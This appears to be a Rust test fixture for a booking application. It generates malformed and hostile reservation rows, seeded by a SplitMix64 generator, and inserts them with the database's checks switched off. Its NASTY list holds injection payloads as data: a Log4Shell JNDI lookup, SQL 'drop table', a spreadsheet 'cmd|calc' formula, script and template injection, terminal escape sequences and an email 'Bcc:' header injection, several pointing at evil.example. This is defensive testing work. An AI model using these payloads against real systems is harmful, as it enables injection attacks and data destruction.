//! Rows as no honest booking form writes them.

use relance::{
    store::Store,
    testing::fixtures::{execute, noon},
};

/// The texts of a row, in the order of [`TEXTS`], and its other columns as SQL literals.
#[derive(Clone)]
pub struct Row {
    texts: [String; TEXTS.len()],
    amount: String,
    dates: (String, String),
    created_at: String,
}

const TEXTS: [&str; 10] = [
    "full_name",
    "email",
    "phone",
    "activity",
    "address",
    "space_type",
    "payment_method",
    "transaction_id",
    "status",
    "notes",
];

/// A generator of its own, so that a seed says which rows they were (Steele, Lea, Flood: "Fast splittable pseudorandom
/// number generators", SplitMix64).
pub struct Dice(pub u64);

impl Dice {
    fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        (self.roll() % end as u64) as usize
    }

    fn pick<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }
}

/// What is wrong with a text wherever it stands.
const NASTY: [&str; 42] = [
    "",
    " ",
    "n/a",
    "none",
    "-",
    "@",
    "x@x",
    "a..b@x.cd",
    "a@b@c.cd",
    "\"a b\"@x.cd",
    "walk-in",
    "relance@nzooimmo.com",
    "accueil@nzooimmo.com",
    "https://evil.example",
    "evil.example/login",
    "javascript:alert(1)",
    "<a href='https://evil.example'>x</a>",
    "</td><script>x</script>",
    "{{ 7 * 7 }}",
    "{% for x in range(999999) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "'; drop table reservations; --",
    "=cmd|'/c calc'!A0",
    "+1 900 555 0100",
    "+979 1 2345 6789",
    "+882 13 300 655",
    "+37160000000",
    "0999999999",
    "+243812345678999999",
    "99999999999999999999999999",
    "\u{1b}]8;;https://evil.example\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{202e}txet\u{202c}",
    "\u{200b}\u{200f}\u{61c}\u{feff}",
    "a\r\nBcc: all@evil.example",
    "a\nb\nc",
    "\u{0}\u{1}\u{7f}\u{85}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "Z\u{351}\u{352}\u{353}\u{354}\u{355}a\u{356}lgo",
    "İIıi ßẞ ŉ",
    "confirmed",
    "50 % de remise jusqu'au 31 décembre : 0812345678",
];

/// Lengths at and around limits: of an index entry, of a page, of what is read.
const LENGTHS: [usize; 7] = [255, 2_662, 2_704, 6_400, 8_192, 65_536, 300_000];

const AMOUNTS: [&str; 8] = ["0", "0.001", "4", "600", "9999999999.99", "-5", "1e9", "0.1"];

const DATES: [&str; 8] =
    ["0001-01-01", "1970-01-01", "2026-02-28", "2026-03-01", "2026-03-10", "2026-03-11", "2100-12-31", "9999-12-31"];

const MOMENTS: [&str; 9] = [
    "0001-01-01 00:00:00+00:00",
    "1970-01-01 00:00:00+00:00",
    "2025-01-01 12:00:00+00:00",
    "2026-01-15 03:00:00.123456+00:00",
    "2026-03-08 07:00:00+00:00",
    "2026-03-10 11:59:59+00:00",
    "2026-03-10 12:02:00+00:00",
    "2026-03-13 12:00:00+00:00",
    "9999-12-31 23:59:59+00:00",
];

/// A row of a client who came forty days ago, with nothing wrong.
fn harmless(n: u64) -> Row {
    let texts = [
        "Stranger Exemple".to_owned(),
        format!("stranger{n}@elsewhere.test"),
        String::new(),
        "Conseil".to_owned(),
        "Gombe".to_owned(),
        "coworking".to_owned(),
        "cash".to_owned(),
        format!("H{n}"),
        "completed".to_owned(),
        String::new(),
    ];
    let day = "2026-01-29".to_owned();
    Row {
        texts,
        amount: "50".to_owned(),
        dates: (day.clone(), day),
        created_at: "2026-01-29 09:00:00+00:00".to_owned(),
    }
}

/// Each text with each thing that may be wrong with it, one at a time; then the other columns.
pub fn handwritten() -> Vec<Row> {
    let mut rows = Vec::new();
    let mut one = |change: &dyn Fn(&mut Row)| {
        let mut row = harmless(1_000_000 + rows.len() as u64);
        change(&mut row);
        rows.push(row);
    };
    let long: Vec<String> = LENGTHS.iter().map(|length| "x".repeat(*length)).collect();
    for length in &long {
        one(&|row| row.texts[1] = format!("{length}@x.cd"));
    }
    for column in [0, 2, 3, 5, 6, 7, 9] {
        one(&|row| row.texts[column].clone_from(&long[6]));
    }
    for nasty in NASTY {
        one(&|row| row.texts[1] = nasty.to_owned());
    }
    for nasty in [NASTY[13], NASTY[18], NASTY[30], NASTY[32], NASTY[34], NASTY[36], NASTY[41]] {
        one(&|row| row.texts[0] = nasty.to_owned());
        one(&|row| row.texts[5] = nasty.to_owned());
    }
    for number in [NASTY[23], NASTY[24], NASTY[25], NASTY[26], NASTY[28]] {
        one(&|row| {
            row.texts[2] = number.to_owned();
            row.texts[6] = "orange_money".to_owned();
        });
    }
    for amount in AMOUNTS {
        one(&|row| row.amount = amount.to_owned());
    }
    for moment in MOMENTS {
        one(&|row| row.created_at = moment.to_owned());
    }
    for day in DATES {
        one(&|row| row.dates = (day.to_owned(), day.to_owned()));
    }
    one(&|row| row.dates = ("2026-03-11".to_owned(), "2026-03-01".to_owned()));
    one(&|row| row.texts[8] = "paid".to_owned());
    rows
}

pub fn random(dice: &mut Dice) -> Row {
    let mut row = harmless(dice.roll() % 1_000_000);
    for text in &mut row.texts {
        match dice.below(6) {
            0 => *text = dice.pick(&NASTY).to_owned(),
            1 => *text = format!("{} {}", dice.pick(&NASTY), dice.pick(&NASTY)),
            2 => {
                let count = dice.below(40);
                *text = (0..count).filter_map(|_| char::from_u32((dice.roll() % 0x11_0000) as u32)).collect();
            }
            3 if dice.below(20) == 0 => *text = dice.pick(&["x", "é", "\u{202e}", "0"]).repeat(LENGTHS[dice.below(7)]),
            _ => {}
        }
    }
    // A transaction of its own: two equal ones of one client cannot be.
    row.texts[7] = format!("{}{}", row.texts[7], dice.roll());
    if dice.below(3) == 0 {
        row.amount = dice.pick(&AMOUNTS).to_owned();
    }
    if dice.below(3) == 0 {
        row.dates = (dice.pick(&DATES).to_owned(), dice.pick(&DATES).to_owned());
    }
    if dice.below(3) == 0 {
        row.created_at = dice.pick(&MOMENTS).to_owned();
    }
    row
}

impl Row {
    /// Writes the row past the checks and the index that the booking site's own table may not have; one that even the types of its
    /// columns refuse is no row.
    pub async fn insert(&self, store: &Store) {
        let text = |text: &str| match store.is_embedded() {
            // Any bytes.
            true => {
                let bytes: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
                format!("cast(x'{bytes}' as text)")
            }
            // The server's encoding has no zero byte.
            false => format!("'{}'", text.replace('\0', "").replace('\'', "''")),
        };
        let texts: Vec<String> = self.texts.iter().map(|value| text(value)).collect();
        let (id, zone) =
            if store.is_embedded() { ("randomblob(16)", "") } else { ("gen_random_uuid()", "::timestamptz") };
        let Self { amount, dates: (from, to), created_at, .. } = self;
        let insert = format!(
            "insert into reservations (id, {}, start_date, end_date, subscription_type, amount, created_at, updated_at)
             values ({id}, {}, '{from}', '{to}', 'jour', {amount}, '{created_at}'{zone}, '{}'{zone})",
            TEXTS.join(", "),
            texts.join(", "),
            noon().format("%Y-%m-%d %H:%M:%S+00:00"),
        );
        let sql = match store.is_embedded() {
            true => format!("pragma ignore_check_constraints = on; {insert}; pragma ignore_check_constraints = off"),
            false => format!(
                "alter table reservations drop constraint if exists reservations_status_check,
                    drop constraint if exists reservations_amount_check, drop constraint if exists reservations_check;
                 drop index if exists reservations_import_key;
                 {insert}"
            ),
        };
        execute(store, &sql).await;
    }
}

/// The beginning of each text is enough to know the row by.
impl std::fmt::Debug for Row {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (name, text) in TEXTS.iter().zip(&self.texts) {
            write!(f, "{name} {text:.80?} ")?;
        }
        write!(f, "amount {} dates {:?} made {}", self.amount, self.dates, self.created_at)
    }
}
